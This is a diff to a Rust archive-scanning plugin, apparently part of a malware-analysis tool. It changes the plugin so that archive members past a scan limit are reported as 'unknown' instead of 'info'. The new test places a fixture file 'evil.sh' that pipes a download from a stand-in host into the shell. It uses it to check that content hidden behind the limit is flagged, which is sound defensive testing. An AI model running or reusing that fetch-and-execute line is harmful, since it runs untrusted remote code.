@@ -4,7 +4,7 @@
 //! One level is opened; the files inside go back to the queue, where this plugin may meet them again. If a zip or 7z has a password, those
 //! of the setting `passwords` are tried, or by default a few common ones, such as `infected`, which laboratories use to share malware. All
 //! of it spends one budget. An archive that two programs would read differently, or that unpacks to far more than its own size, is
-//! `suspicious`. That an archive cannot be opened is reported as `info`.
+//! `suspicious`. What was not seen, because an archive cannot be opened or has more in it than is looked at, is a reason for `unknown`.
 
 use crate::findings::{Findings, Kept};
 use crate::sample::Sample;
@@ -49,7 +49,6 @@ pub fn look(sample: &Sample, findings: &mut Findings<'_>) -> Result<Value, Strin
         document: is_document(&sample.data, kind),
         members: Vec::new(),
         count: 0,
-        left: 0,
         odd: Vec::new(),
         password: is_locked_zip(&sample.data),
         problem: None,
@@ -60,12 +59,9 @@ pub fn look(sample: &Sample, findings: &mut Findings<'_>) -> Result<Value, Strin
     if let Some(problem) = opening.problem {
         return Err(problem);
     }
-    let Opening { members, count, left, odd, password: opening_password, .. } = opening;
+    let Opening { members, count, odd, password: opening_password, .. } = opening;
     if let Err(exceeded) = walked {
         judge_limit(exceeded, findings);
-    }
-    if left > 0 {
-        findings.unknown("left", format!("{left} more files than go back to the queue, which nobody looks at"));
     }
     if count > 0 {
         findings.info("members", count.to_string());
@@ -166,7 +162,8 @@ fn judge_limit(exceeded: Exceeded, findings: &mut Findings<'_>) {
         Exceeded::Ratio(_) | Exceeded::Bytes(_) | Exceeded::Held(_) | Exceeded::Dictionary(_) => {
             findings.suspicious("bomb", exceeded.to_string());
         }
-        _ => findings.info("limit", exceeded.to_string()),
+        // What comes behind the limit was seen by nobody.
+        _ => findings.unknown("limit", exceeded.to_string()),
     }
 }
 
@@ -203,8 +200,6 @@ struct Opening<'a, 'k> {
     document: bool,
     members: Vec<Value>,
     count: u64,
-    /// Members that found no room.
-    left: u64,
     odd: Vec<(String, Oddity)>,
     /// A password opened something.
     password: bool,
@@ -233,10 +228,8 @@ impl Visit for Opening<'_, '_> {
         self.count += 1;
         let name = file.names.first().map_or("", String::as_str);
         let kept = if self.is_wanted(file) { self.findings.child(name, file.data) } else { Ok(Kept::Known) };
-        match kept {
-            Ok(Kept::No) if !file.data.is_empty() => self.left += 1,
-            Ok(_) => {}
-            Err(error) => self.problem = Some(format!("a file cannot be written: {error}")),
+        if let Err(error) = kept {
+            self.problem = Some(format!("a file cannot be written: {error}"));
         }
         if self.members.len() < LISTED_MAX {
             let name = shown(name, NAME_MAX);
@@ -373,6 +366,19 @@ mod tests {
         let (children, lines, full) = opened("a.zip", &fixtures::zip(&members));
         assert_eq!((children.len(), &full["member_count"]), (crate::findings::CHILDREN_MAX, &1000.into()));
         assert!(lines.iter().any(|(_, text)| text.starts_with("left 800")), "{lines:?}");
+    }
+
+    #[test]
+    fn what_comes_behind_a_limit_is_a_doubt() {
+        // All alike, or empty: as many as there are find room, and what comes behind them is seen by nobody.
+        for content in [&b"x"[..], b""] {
+            let names: Vec<String> = (0..5001).map(|n| n.to_string()).collect();
+            let mut members: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), content)).collect();
+            members.push(("evil.sh", b"#!/bin/sh\ncurl http://evil.example/x | sh\n"));
+            let (children, lines, full) = opened("a.zip", &fixtures::zip(&members));
+            assert!(children.len() <= 1 && full["limit"].is_string());
+            assert!(lines.contains(&(Level::Unknown, "limit more than 5000 files in archives".into())), "{lines:?}");
+        }
     }
 
     #[test]
